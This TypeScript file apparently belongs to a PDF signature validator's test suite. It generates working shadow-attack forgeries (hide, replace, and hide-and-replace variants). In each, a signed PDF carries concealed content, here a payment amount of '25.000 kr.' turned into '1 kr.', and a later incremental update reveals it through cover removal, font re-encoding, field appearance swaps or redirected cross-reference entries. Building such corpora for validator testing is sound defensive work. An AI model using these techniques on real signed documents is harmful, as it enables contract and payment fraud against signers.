import { Buffer } from "node:buffer";
import { withEntries } from "../../../../local/rehearsal/pdfs/pdf-dictionary.ts";
import {
  appendRevision,
  deflatedStream,
  lastTrailer,
  latin1,
  type ObjectBody,
  objectBody,
  stream,
} from "../../../../local/rehearsal/pdfs/pdf-writer.ts";
import {
  CATALOGUE,
  FIRST_CONTENT,
  FIRST_PAGE,
  FONT,
  PAGES,
} from "../../../../local/rehearsal/pdfs/plain-pdf.ts";
import {
  type Attack,
  type AttackClass,
  changes,
  document,
  EVIL,
  evilContent,
  HONEST,
  signed,
} from "./attack.ts";

/**
 * Shadow attacks (Mainka et al., NDSS 2021): the attacker prepares the file, the victim signs what it shows,
 * and a small update afterwards shows what was hidden all the while.
 */
const variants = {
  "shadow: hide": [
    ["the covering picture is taken away", () => coveredBy({ objects: changes([60, emptyForm()]) })],
    ["the covering picture is declared free", () => coveredBy({ objects: changes(), freed: [60] })],
    ["the covering picture becomes nothing", () => coveredBy({ objects: changes([60, "null"]) })],
    [
      "the page no longer draws the cover",
      () => coveredBy({ objects: changes([61, stream("", latin1(" "))]) }),
    ],
    ["the cover's layer is switched off", () => layered()],
    [
      "the covering annotation is hidden",
      () => annotated((body) => changes([62, withEntries(body, { F: "2" })])),
    ],
    [
      "the covering annotation is moved away",
      () => annotated((body) => changes([62, withEntries(body, { Rect: "[0 0 1 1]" })])),
    ],
    [
      "the covering annotation is taken off the page",
      () => annotated(() => changes([FIRST_PAGE, pageWith({ Annots: "[]" })])),
    ],
    ["the annotations change places, the covered one on top", () => changedPlaces()],
  ],
  "shadow: replace": [
    ["the letters get other shapes", () => update(changes([FONT, swappedDigits()]))],
    [
      "the letters' font becomes another",
      () => update(changes([FONT, "<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>"])),
    ],
    [
      "a field shows another text than its value",
      () =>
        withField((body) =>
          changes([63, withEntries(body, { AP: "<</N 75 0 R>>" })], [75, fieldForm("1 kr.")]),
        ),
    ],
    ["a field's appearance is written over", () => withField(() => changes([64, fieldForm("1 kr.")]))],
    [
      "a field's value and appearance change",
      () => withField((body) => changes([63, withEntries(body, { V: "(1 kr.)" })], [64, fieldForm("1 kr.")])),
    ],
    ["the form draws its fields anew", () => withField(() => changes([CATALOGUE, formAnew()]))],
    [
      "a picture on the page is replaced",
      () =>
        coveredBy({
          objects: changes([60, deflatedStream(FORM, latin1("BT /F1 11 Tf 64 728 Td (1 kr.) Tj ET"))]),
        }),
    ],
    [
      "an annotation's text is replaced",
      () =>
        annotated((body) =>
          changes(
            [62, withEntries(body, { AP: "<</N 75 0 R>>", Contents: "(1 kr.)" })],
            [75, fieldForm("1 kr.")],
          ),
        ),
    ],
    ["a list of pictures that is a form field too points elsewhere", () => pictureListAsField()],
    ["the page's text that is a page too is replaced", () => textAsPage()],
    ["an appearance's pictures that are a form field too point elsewhere", () => appearanceListAsField()],
  ],
  "shadow: hide and replace": [
    [
      "the page is swapped for the hidden one",
      () => hidden(changes([PAGES, "<</Type/Pages/Count 1/Kids[50 0 R]>>"])),
    ],
    [
      "the text is swapped for the hidden one",
      () => hidden(changes([FIRST_PAGE, hiddenPage({ Contents: "51 0 R" })])),
    ],
    [
      "the catalogue takes the hidden tree",
      () => hidden(changes([CATALOGUE, hiddenCatalogue({ Pages: "52 0 R" })])),
    ],
    ["the trailer names the hidden catalogue", () => hiddenRoot()],
    ["the table alone points to the hidden text", () => pointedAtHidden("table")],
    ["a cross-reference stream alone points to the hidden text", () => pointedAtHidden("stream")],
    [
      "the hidden pages come in front",
      () => hidden(changes([PAGES, `<</Type/Pages/Count 2/Kids[50 0 R ${FIRST_PAGE} 0 R]>>`])),
    ],
  ],
} as const satisfies Partial<Record<AttackClass, readonly (readonly [string, () => Buffer])[]>>;

export const shadows: readonly Attack[] = (Object.keys(variants) as (keyof typeof variants)[]).flatMap(
  (kind) => variants[kind].map(([name, forge]): Attack => ({ kind, name, forge })),
);

const FORM = `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F1 ${FONT} 0 R>>>>`;
const emptyForm = (): Buffer => deflatedStream(FORM, latin1(" "));
const cover = (): Buffer =>
  deflatedStream(
    FORM,
    latin1("1 1 1 rg 0 0 595 780 re f 0 g BT /F1 11 Tf 64 728 Td (Kontingentet er 25.000 kr.) Tj ET"),
  );
const fieldForm = (text: string): Buffer =>
  deflatedStream(FORM, latin1(`/Tx BMC BT /F1 11 Tf 2 4 Td (${text}) Tj ET EMC`));

function update(objects: ReadonlyMap<number, ObjectBody>): Buffer {
  return appendRevision(signed(), { objects });
}

/** The evil text is on the page from the beginning, under a picture of the honest one. */
function coveredBy(after: {
  readonly objects: ReadonlyMap<number, ObjectBody>;
  readonly freed?: readonly number[];
}): Buffer {
  const resources = `<</Font<</F1 ${FONT} 0 R>>/XObject<</Cover 60 0 R>>>>`;
  const page = `<</Type/Page/Parent ${PAGES} 0 R/MediaBox[0 0 595 842]/Resources ${resources}/Contents[${FIRST_CONTENT} 0 R 61 0 R]>>`;
  const also = changes([60, cover()], [61, stream("", latin1("/Cover Do"))], [FIRST_PAGE, page]);
  return appendRevision(signed(document({ pages: [EVIL], also })), after);
}

function layered(): Buffer {
  const layers = (off: string) => `<</OCGs[66 0 R]/D<</Order[66 0 R]${off}>>>>`;
  const page = `<</Type/Page/Parent ${PAGES} 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 ${FONT} 0 R>>/XObject<</Cover 60 0 R>>/Properties<</L 66 0 R>>>>/Contents[${FIRST_CONTENT} 0 R 61 0 R]>>`;
  const also = changes(
    [60, cover()],
    [61, stream("", latin1("/OC /L BDC /Cover Do EMC"))],
    [66, "<</Type/OCG/Name(Lag)>>"],
    [FIRST_PAGE, page],
  );
  const file = signed(document({ pages: [EVIL], also, catalogue: `/OCProperties ${layers("")}` }));
  return appendRevision(file, {
    objects: changes([
      CATALOGUE,
      withEntries(objectBody(file, CATALOGUE), { OCProperties: layers("/OFF[66 0 R]") }),
    ]),
  });
}

const annotation = `<</Type/Annot/Subtype/Stamp/Rect[0 0 595 780]/F 4/AP<</N 60 0 R>>/P ${FIRST_PAGE} 0 R/Contents(25.000 kr.)>>`;

function annotated(after: (body: string) => ReadonlyMap<number, ObjectBody>): Buffer {
  const file = signed(
    document({ pages: [EVIL], firstPage: "/Annots[62 0 R]", also: changes([60, cover()], [62, annotation]) }),
  );
  return appendRevision(file, { objects: after(annotation) });
}

function pageWith(entries: Readonly<Record<string, string>>): string {
  return withEntries(objectBody(signed(), FIRST_PAGE), entries);
}

/** 2 is drawn as 0 and 5 as 1: the same bytes, another sum. */
function swappedDigits(): string {
  return "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Type/Encoding/BaseEncoding/WinAnsiEncoding/Differences[50/zero 53/one]>>>>";
}

const field = `<</Type/Annot/Subtype/Widget/FT/Tx/T(beloeb)/V(25.000 kr.)/DA(/F1 11 Tf 0 g)/Rect[64 600 300 620]/F 4/AP<</N 64 0 R>>/P ${FIRST_PAGE} 0 R>>`;
const form = (more = "") => `/AcroForm<</Fields[63 0 R]/DR<</Font<</F1 ${FONT} 0 R>>>>${more}>>`;

function fileWithField(): Buffer {
  const also = changes([63, field], [64, fieldForm("25.000 kr.")]);
  return signed(document({ pages: [HONEST], firstPage: "/Annots[63 0 R]", catalogue: form(), also }));
}

function withField(after: (body: string) => ReadonlyMap<number, ObjectBody>): Buffer {
  return appendRevision(fileWithField(), { objects: after(field) });
}

function formAnew(): string {
  const catalogue = objectBody(fileWithField(), CATALOGUE);
  return catalogue.replace("/SigFlags 3", "/SigFlags 3/NeedAppearances true");
}

/** A second page, tree and catalogue lie unused in the file when it is signed. */
function fileWithHidden(): Buffer {
  const page = `<</Type/Page/Parent ${PAGES} 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 ${FONT} 0 R>>>>/Contents 51 0 R>>`;
  const also = changes(
    [50, page],
    [51, evilContent()],
    [52, "<</Type/Pages/Count 1/Kids[50 0 R]>>"],
    [53, "<</Type/Catalog/Pages 52 0 R>>"],
  );
  return signed(document({ also }));
}

function hidden(objects: ReadonlyMap<number, ObjectBody>): Buffer {
  return appendRevision(fileWithHidden(), { objects });
}

const hiddenPage = (entries: Readonly<Record<string, string>>): string =>
  withEntries(objectBody(fileWithHidden(), FIRST_PAGE), entries);
const hiddenCatalogue = (entries: Readonly<Record<string, string>>): string =>
  withEntries(objectBody(fileWithHidden(), CATALOGUE), entries);

/** The second catalogue keeps the form, so that the signature still shows. */
function hiddenRoot(): Buffer {
  const file = fileWithHidden();
  const catalogue = withEntries(objectBody(file, CATALOGUE), { Pages: "52 0 R" });
  return appendRevision(file, { objects: changes([53, catalogue]), root: 53 });
}

/** Not one object is new: the table says that number 11 now begins where 51 lies in the signed bytes. */
function pointedAtHidden(style: "table" | "stream"): Buffer {
  const hiddenText = Buffer.concat([latin1(`${FIRST_CONTENT} 0 obj\n`), evilContent(), latin1("\nendobj\n")]);
  const file = signed(document({ also: changes([51, stream("", hiddenText)]) }));
  const at = file.indexOf(hiddenText);
  const { startXref, size } = lastTrailer(file);
  const trailer = `/Size ${style === "table" ? size : size + 1}/Root ${CATALOGUE} 0 R/Prev ${startXref}`;
  if (style === "table") {
    const entry = `${FIRST_CONTENT} 1\n${String(at).padStart(10, "0")} 00000 n\r\n`;
    return Buffer.concat([
      file,
      latin1(`xref\n${entry}trailer\n<<${trailer}>>\nstartxref\n${file.length}\n%%EOF\n`),
    ]);
  }
  const row = Buffer.alloc(6);
  row[0] = 1;
  row.writeUInt32BE(at, 1);
  const table = stream(`/Type/XRef/W[1 4 1]/Index[${FIRST_CONTENT} 1]${trailer}`, row);
  const start = latin1(`${size} 0 obj\n`);
  return Buffer.concat([file, start, table, latin1(`\nendobj\nstartxref\n${file.length}\n%%EOF\n`)]);
}

/** Two stamps lie over each other; which is seen depends on their order alone. */
function changedPlaces(): Buffer {
  const stamp = (picture: number) =>
    `<</Type/Annot/Subtype/Stamp/Rect[0 0 595 780]/F 4/AP<</N ${picture} 0 R>>/P ${FIRST_PAGE} 0 R>>`;
  const also = changes(
    [60, cover()],
    [61, stamp(60)],
    [62, deflatedStream(FORM, latin1("1 1 1 rg 0 0 595 780 re f"))],
    [63, stamp(62)],
  );
  const file = signed(document({ firstPage: "/Annots[63 0 R 61 0 R]", also }));
  const page = objectBody(file, FIRST_PAGE);
  return appendRevision(file, {
    objects: changes([FIRST_PAGE, page.replace("63 0 R 61 0 R", "61 0 R 63 0 R")]),
  });
}

/** One dictionary, used as the page's /XObject resources and listed as a field: what may change in a field? */
const doubled = (picture: number): string => `<</FT/Tx/T(billede)/P ${picture} 0 R/M 60 0 R/F 4>>`;

function pictureListAsField(): Buffer {
  const page = `<</Type/Page/Parent ${PAGES} 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 ${FONT} 0 R>>/XObject 64 0 R>>/Contents[${FIRST_CONTENT} 0 R 61 0 R]>>`;
  const also = changes(
    [60, cover()],
    [61, stream("", latin1("/P Do"))],
    [62, emptyForm()],
    [64, doubled(60)],
    [FIRST_PAGE, page],
  );
  const file = signed(document({ pages: [EVIL], also, catalogue: "/AcroForm<</Fields[64 0 R]>>" }));
  return appendRevision(file, { objects: changes([64, doubled(62)]) });
}

function appearanceListAsField(): Buffer {
  const outer = `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject 64 0 R>>`;
  const also = changes(
    [60, cover()],
    [61, deflatedStream(outer, latin1("/P Do"))],
    [62, emptyForm()],
    [63, `<</Type/Annot/Subtype/Stamp/Rect[0 0 595 842]/F 4/AP<</N 61 0 R>>/P ${FIRST_PAGE} 0 R>>`],
    [64, doubled(60)],
  );
  const file = signed(
    document({
      pages: [EVIL],
      also,
      firstPage: "/Annots[63 0 R]",
      catalogue: "/AcroForm<</Fields[64 0 R]>>",
    }),
  );
  return appendRevision(file, { objects: changes([64, doubled(62)]) });
}

/** The text's own stream says that it is a page and hangs in the page tree. */
function textAsPage(): Buffer {
  const asPage = (text: Buffer): Buffer =>
    Buffer.from(
      text.toString("latin1").replace("<<", `<</Type/Page/Parent ${PAGES} 0 R/MediaBox[0 0 9 9]`),
      "latin1",
    );
  const tree = `<</Type/Pages/Count 2/Kids[${FIRST_PAGE} 0 R ${FIRST_CONTENT} 0 R]>>`;
  const plain = (lines: readonly string[]) =>
    stream("", latin1(`BT /F1 11 Tf 64 700 Td (${lines.join(" ").padEnd(60)}) Tj ET`));
  const file = signed(document({ also: changes([PAGES, tree], [FIRST_CONTENT, asPage(plain(HONEST))]) }));
  return appendRevision(file, { objects: changes([FIRST_CONTENT, asPage(plain(EVIL))]) });
}
